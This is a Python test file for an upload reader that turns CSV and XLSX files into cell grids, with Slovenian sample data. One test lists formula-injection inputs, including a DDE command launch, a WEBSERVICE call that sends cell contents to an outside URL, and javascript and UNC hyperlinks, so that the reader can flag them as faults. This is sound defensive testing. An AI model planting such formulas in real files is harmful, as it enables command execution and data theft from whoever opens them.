"""Files as grids of cells: XLSX, and CSV in whichever way it was saved."""

from __future__ import annotations

from datetime import date
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font

from tests.workbooks import csv_of, part_of, with_parts, words_of, workbook
from zmos_data.editing import marks
from zmos_data.editing.grid import Cell, Grid, Holds, Upload
from zmos_data.editing.reading import read_upload

FILES = Path(__file__).parents[1] / "files"
TEXTS = [["Občina", "Ime"], ["Ptuj", "Šolska pot; čez Žabjak"], ["061", "Ena, dve"]]


def texts(grid: Grid) -> list[list[str]]:
    return [[cell.text for cell in row] for row in grid.rows]


def only(upload: Upload) -> Grid:
    assert words_of(upload.findings) == []
    (grid,) = upload.grids
    return grid


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1250"])
@pytest.mark.parametrize("ends", ["\n", "\r\n", "\r"])
def test_csv_is_read_however_it_was_saved(delimiter, encoding, ends):
    text = csv_of(*TEXTS, delimiter=delimiter).decode().replace("\n", ends)
    assert texts(only(read_upload("a.csv", text.encode(encoding)))) == TEXTS


def test_what_was_read_as_windows_is_said():
    upload = read_upload("a.csv", csv_of(*TEXTS).decode().encode("cp1250"))
    assert any("Windows-1250" in words for words in words_of(upload.findings, faults=False))
    assert read_upload("a.csv", csv_of(*TEXTS)).findings == ()


def test_a_first_line_may_name_what_parts_the_cells():
    grid = only(read_upload("a.csv", b"sep=|\r\nA|B;C\r\n1|2;3\r\n"))
    assert texts(grid) == [["A", "B;C"], ["1", "2;3"]]


def test_decimal_commas_do_not_part_cells():
    content = b"a;b;c\n1,5;2,5;3,5\n4,5;5,5;6,5\n"
    assert texts(only(read_upload("a.csv", content)))[1] == ["1,5", "2,5", "3,5"]


def test_quotes_go_over_lines_and_rows_are_counted_as_spreadsheets_do():
    grid = only(read_upload("a.csv", b'a;b\n"ena\ndve ""tri""";2\n\n;\n3;4\n'))
    assert texts(grid) == [["a", "b"], ['ena dve "tri"', "2"], [], [], ["3", "4"]]


def test_the_apostrophe_of_our_own_csv_is_taken_off():
    grid = only(read_upload("a.csv", b"a;b\n'=1+1;'-2\n'navedek';'\n"))
    assert texts(grid)[1:] == [["=1+1", "-2"], ["'navedek'", "'"]]


def test_text_that_excel_was_made_to_keep_is_text():
    assert texts(only(read_upload("a.csv", b'a;b\n"=""061""";1\n')))[1] == ["061", "1"]


def test_a_formula_in_a_csv_has_no_result():
    upload = read_upload("a.csv", b"a;b\n=A1*2;1\n")
    (fault,) = upload.findings
    assert fault.is_fault
    assert (fault.place.sheet, fault.place.row, fault.place.column) == ("a.csv", 2, 1)


def test_lines_of_two_encodings_are_read_each_in_its_own():
    content = "a;b\nčebela;1\n".encode() + "žaba;2\n".encode("cp1250")
    upload = read_upload("a.csv", content)
    assert texts(only(upload))[1:] == [["čebela", "1"], ["žaba", "2"]]
    assert any("two encodings" in words for words in words_of(upload.findings, faults=False))


def test_a_csv_as_libreoffice_saves_it_in_slovenian():
    """LibreOffice 7.4 with the locale sl-SI: semicolons, Windows-1250, decimal commas."""
    grid = only(read_upload("x.csv", (FILES / "slovenian_excel.csv").read_bytes()))
    assert texts(grid)[1] == [
        *("61", "Ureditev Šmartinske ceste; 2. faza", "Trajnostna mobilnost", "2014–2020"),
        *("1234567,5", "1000", "12. 04. 2019", 'Vrstica ena vrstica »dve« "tri"'),
    ]


def test_cells_of_a_workbook_by_their_type():
    row = ["besedilo", 61, 0.1 + 0.2, 1e15, 1234567.89, True, date(2019, 4, 12), ("=1+1", 2)]
    grid = only(read_upload("a.xlsx", workbook({"A": [row]})))
    assert grid.rows[0] == (
        Cell("besedilo"),
        Cell("61", Holds.NUMBER),
        Cell("0.3", Holds.NUMBER),
        Cell("1000000000000000", Holds.NUMBER),
        Cell("1234567.89", Holds.NUMBER),
        Cell("true", Holds.TRUTH),
        Cell("2019-04-12", Holds.DATE),
        Cell("2", Holds.NUMBER, "=1+1"),
    )


def test_rows_and_columns_stand_where_they_stand_in_the_file():
    grid = only(read_upload("a.xlsx", workbook({"A": [[], [None, None, "c"], [], ["a"]]})))
    assert texts(grid) == [[], ["", "", "c"], [], ["a"]]


def test_a_formula_is_read_by_its_result_and_said():
    upload = read_upload("a.xlsx", workbook({"A": [["x"], [("=A1*2", 1.234)]]}))
    (said,) = upload.findings
    assert (said.place.sheet, said.place.row, said.place.column) == ("A", 2, 1)
    assert said.found == "=A1*2"
    assert "1.234" in said.words
    assert not said.is_fault


def test_an_empty_result_is_an_empty_cell():
    content = workbook({"A": [["x", ('=IF(1,"","a")', "a")]]})
    sheet = part_of(content, "xl/worksheets/sheet1.xml").replace(b"<v>a</v>", b"<v></v>")
    upload = read_upload("a.xlsx", with_parts(content, {"xl/worksheets/sheet1.xml": sheet}))
    assert upload.findings == ()


def test_a_formula_without_a_result_is_a_fault():
    content = workbook({"A": [["x", ("=1+1", 2)]]})
    sheet = part_of(content, "xl/worksheets/sheet1.xml").replace(b"<v>2</v>", b"")
    upload = read_upload("a.xlsx", with_parts(content, {"xl/worksheets/sheet1.xml": sheet}))
    (fault,) = upload.findings
    assert fault.is_fault
    assert fault.place.letters == "B"
    assert "save it" in fault.advice


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        '=DDE("cmd","/C calc","x")',
        '=WEBSERVICE("https://x.si/?"&A1)',
        '=HYPERLINK("javascript:alert(1)","x")',
        '=HYPERLINK("\\\\server\\share","x")',
        '=IMPORTXML("https://x.si","//a")',
    ],
)
def test_a_formula_that_reaches_out_is_a_fault_whatever_its_result(formula):
    upload = read_upload("a.xlsx", workbook({"A": [["x", (formula, 5)]]}))
    (fault,) = upload.findings
    assert fault.is_fault
    assert fault.place.letters == "B"
    assert [row for row in texts(upload.grids[0]) if "5" in row] == []


def test_a_link_to_a_page_is_read_by_its_words():
    content = workbook({"A": [["x", ('=HYPERLINK("https://x.si","novica")', "novica")]]})
    assert texts(only(read_upload("a.xlsx", content))) == [["x", "novica"]]


def test_an_error_of_a_formula_is_a_fault():
    upload = read_upload("a.xlsx", workbook({"A": [["x", ("=B9/0", "#DIV/0!")]]}))
    (fault,) = upload.findings
    assert fault.is_fault
    assert fault.place.letters == "B"


def test_a_text_over_several_rows_counts_for_each_and_a_number_for_the_first():
    rows = [["Projekt", "EUR"], ["061-13", 5], [None, None], ["061-14", 7]]
    content = workbook({"A": rows}, merged={"A": ["A2:A3", "B2:B3"]})
    upload = read_upload("a.xlsx", content)
    assert texts(upload.grids[0])[1:] == [["061-13", "5"], ["061-13"], ["061-14", "7"]]
    said = words_of(upload.findings, faults=False)
    assert any("A2:A3" in words and "each" in words for words in said)
    assert any("B2:B3" in words and "first cell" in words for words in said)


def test_hidden_sheets_are_said_and_not_read_and_the_templates_own_not_even_said():
    content = workbook(
        {
            "Projekti": [["a"]],
            "Seznami": [["b"]],
            "Osnutek": [["c"]],
            "Prazen": [],
            "Kako": [["d"]],
        },
        hidden=("Seznami", "Osnutek", "Prazen"),
    )
    upload = read_upload("a.xlsx", content)
    assert [grid.sheet for grid in upload.grids] == ["Projekti"]
    (said,) = upload.findings
    assert said.place.sheet == "Osnutek"
    assert "hidden" in said.words


def test_a_template_says_of_which_data_and_towns_it_is():
    content = workbook(
        {"A": [["a"]]}, properties={"ZMOS checksum": "abc", "ZMOS towns": "061, 096"}
    )
    upload = read_upload("a.xlsx", content)
    assert (upload.base, upload.towns) == ("abc", ("061", "096"))
    assert read_upload("a.xlsx", workbook({"A": [["a"]]})).towns == ()


def test_a_month_is_read_as_the_month_that_the_cell_shows():
    """LibreOffice and Excel keep »april 2019« as the first of April with a format."""
    upload = read_upload("x.xlsx", (FILES / "libreoffice.xlsx").read_bytes())
    projects = upload.grids[0]
    assert projects.rows[3][9] == Cell("2019-04", Holds.DATE)
    assert projects.rows[4][9] == Cell("2024-01-15", Holds.DATE)


def test_a_workbook_of_libreoffice_is_read():
    upload = read_upload("x.xlsx", (FILES / "libreoffice.xlsx").read_bytes())
    assert words_of(upload.findings) == []
    assert [grid.sheet for grid in upload.grids] == ["Projekti", "Zneski"]
    assert (upload.base, upload.towns) == ("abc123", ("061", "096"))
    assert texts(upload.grids[1])[1:] == [
        ["061-13", "skupna vrednost", "1234567.89", "natančen", "2019-04-12"],
        ["061-13", "prispevek EU", "617283.95", "natančen"],
        ["Kolesarska povezava Ptuj–Žabjak", "celotna vrednost", "pribl. 2 mio €"],
    ]


def test_shared_strings_with_how_they_sound_are_read_without_it():
    content = workbook({"A": [["x"]]})
    shared = (
        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
        b'main"><si><r><t>Pt</t></r><r><t>uj</t></r><rPh sb="0" eb="1"><t>no</t></rPh></si></sst>'
    )
    upload = read_upload("a.xlsx", with_parts(content, {"xl/sharedStrings.xml": shared}))
    assert texts(only(upload)) == [["Ptuj"]]


def test_what_a_workbook_says_beside_its_values_is_told_by_kind():
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (["Projekt", "EUR"], ["061-01", 5], ["061-02", 6], ["061-03", 7], ["061-04", 8]):
        sheet.append(row)
    sheet["A2"].font = Font(strike=True)
    sheet["B2"].font = Font(strike=True)
    sheet["B3"].number_format = "[$$-409]#,##0.00"
    sheet["B4"].number_format = "#,##0.00 [$€-424]"
    sheet.row_dimensions[4].hidden = True
    sheet["B5"].comment = Comment("preveri", "M. Novak")
    sheet["A5"].comment = Comment("nasvet", marks.AUTHOR)
    sheet["A1"].comment = Comment("Oznaka projekta; pri novem projektu njegovo ime.", "")
    buffer = BytesIO()
    book.save(buffer)
    upload = read_upload("a.xlsx", buffer.getvalue())
    assert [str(one.words) for one in upload.findings] == [
        "Struck through, and read all the same: rows 2.",
        "Formatted in another currency, and read as euros: B3 ($).",
        "Hidden, and read all the same: rows 4.",
        "Comments were not read: B5.",
    ]
